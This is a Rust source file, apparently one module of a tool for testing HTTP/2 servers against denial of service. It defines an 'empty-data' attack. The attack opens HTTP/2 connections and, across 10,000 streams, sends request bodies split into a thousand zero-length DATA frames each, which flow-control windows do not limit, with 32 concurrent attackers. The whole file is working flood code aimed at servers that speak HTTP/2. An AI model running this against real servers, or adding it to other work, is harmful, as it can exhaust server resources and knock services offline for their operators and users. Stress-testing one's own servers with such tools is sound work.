//! Sends the body of an HTTP/2 request in pieces of no bytes, which no window limits.

use super::{Attack, WITH_HTTP2};
use crate::{aim::Aim, frames};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "empty-data",
    about: "Sends bodies of HTTP/2 requests in pieces of no bytes",
    targets: WITH_HTTP2,
    attackers: 32,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

/// Pieces of each body.
const PIECES: usize = 1000;

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect_http2(&[]).await?;
    for n in 0..10_000 {
        let stream_id = 2 * n + 1;
        let body = frames::empty_data(stream_id).repeat(PIECES);
        stream.write_all(&[frames::get_with_body(stream_id), body].concat()).await?;
    }
    Ok(())
}
